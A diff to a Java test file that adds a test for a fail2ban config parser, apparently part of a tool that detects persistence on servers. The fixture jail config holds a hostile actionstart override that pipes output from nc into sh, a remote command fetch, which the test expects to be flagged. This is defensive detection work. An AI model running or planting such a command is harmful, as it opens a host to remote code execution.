@@ -13,6 +13,7 @@ import bzh.vigie.agent.persistence.format.server.ApacheConf;
 import bzh.vigie.agent.persistence.format.server.Containers;
 import bzh.vigie.agent.persistence.format.server.Databases;
 import bzh.vigie.agent.persistence.format.server.DockerFile;
+import bzh.vigie.agent.persistence.format.server.Logging;
 import bzh.vigie.agent.persistence.format.server.Mail;
 import bzh.vigie.agent.persistence.format.server.Monitoring;
 import bzh.vigie.agent.persistence.format.server.NginxConf;
@@ -204,6 +205,26 @@ class ServerFormatsTest {
         assertEquals(
                 new Draft.Run.Shell("/bin/a b", Commands.PATH),
                 parsed.drafts().getFirst().run());
+    }
+
+    /** jail.conf(5), action: parameters in brackets replace what the action's own file says. A drill by others. */
+    @Test
+    void whatAJailGivesItsActionsIsRun() {
+        Parsed parsed = Logging.fail2ban().parse(file("fail2ban/jail.d/recid.conf", """
+                        [recidive2]
+                        enabled = true
+                        action = %(action_)s
+                                 dummy[name=r, actionstart="sh -c 'u=$(printf \\"\\x31\\"); nc $u 8088 | sh'"]
+                                 sendmail[mailcmd='/opt/m -t', dest=a@b]
+                        """));
+        assertEquals(
+                List.of("actionstart = \"sh -c 'u=$(printf \\\"\\x31\\\"); nc $u 8088 | sh'\"\nmailcmd = '/opt/m -t'"),
+                parsed.drafts().stream().map(Draft::value).toList());
+        String ordinary =
+                "[sshd]\nbanaction = nftables\naction = %(action_mwl)s\n  sendmail-whois[name=ssh, dest=root, sender=a@b]\n";
+        assertEquals(
+                List.of(),
+                Logging.fail2ban().parse(file("fail2ban/jail.local", ordinary)).drafts());
     }
 
     @Test
